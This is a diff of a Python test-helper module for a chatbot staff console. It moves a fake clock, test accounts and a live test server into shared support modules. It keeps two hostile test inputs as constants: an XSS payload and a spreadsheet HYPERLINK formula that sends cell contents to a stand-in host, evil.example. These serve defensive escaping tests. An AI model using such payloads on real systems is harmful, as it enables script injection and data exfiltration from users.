@@ -1,51 +1,28 @@
 """Helpers shared by the staff-console tests and the screenshot script.
 
-A hand-moved clock, seeded conversations and requests, a client that signs in and sends the
-CSRF token like the browser does, and the console served for real (uvicorn on a free port).
+Seeded conversations and requests, a client that signs in and sends the CSRF token like the
+browser does, and the console mounted as app.py mounts it. The clock, the accounts and the
+live server are the ones every suite uses (tests/support/).
 """
 
 from __future__ import annotations
 
 import re
-import socket
-import threading
-import time
-from collections.abc import Iterator
-from contextlib import contextmanager
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
-import uvicorn
-from argon2 import PasswordHasher
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
 from bot.store.appointments import AppointmentForm
 from bot.store.repo import ChatLog
 from bot.types import Citation, Reply
+from tests.support.accounts import PASSWORD, add_staff_accounts
+from tests.support.clock import FakeClock
 
-PASSWORD = "correct horse battery"
-# Real argon2, with parameters cheap enough for many hashes per test run.
-CHEAP_HASHER = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
-START = datetime(2025, 6, 2, 9, 0, tzinfo=UTC)
 XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=1</script>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-@dataclass
-class FakeClock:
-    """A clock the test moves by hand (shared by the store and the console)."""
-
-    now: datetime = START
-
-    def __call__(self) -> datetime:
-        return self.now
-
-    def advance(self, **delta: float) -> datetime:
-        self.now += timedelta(**delta)
-        return self.now
 
 
 class NoSleep:
@@ -92,8 +69,7 @@ def conversation_id(chatlog: ChatLog, session_id: str) -> str:
 
 def seed(chatlog: ChatLog, clock: FakeClock) -> Seeded:
     """Two accounts and four conversations (answer, fallback, emergency, hostile input)."""
-    chatlog.create_staff("ana", PASSWORD, "staff")
-    chatlog.create_staff("eddie", PASSWORD, "editor")
+    add_staff_accounts(chatlog)
 
     chatlog.log_reply(
         "s-answer",
@@ -220,34 +196,7 @@ class Console:
         return response
 
 
-# --- the console served for real ---------------------------------------------------------
-
-
-def free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return int(s.getsockname()[1])
-
-
-@contextmanager
-def serve(app: FastAPI) -> Iterator[str]:
-    """Run `app` with uvicorn in a thread on a free loopback port; yields its base URL."""
-    port = free_port()
-    server = uvicorn.Server(
-        uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="off")
-    )
-    thread = threading.Thread(target=server.run, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 15
-    while not server.started:
-        if time.monotonic() > deadline or not thread.is_alive():
-            raise RuntimeError("the staff console did not start")
-        time.sleep(0.05)
-    try:
-        yield f"http://127.0.0.1:{port}"
-    finally:
-        server.should_exit = True
-        thread.join(timeout=10)
+# --- the console as app.py mounts it ----------------------------------------------------
 
 
 def mounted(staff_app: FastAPI, prefix: str = "/staff") -> FastAPI:
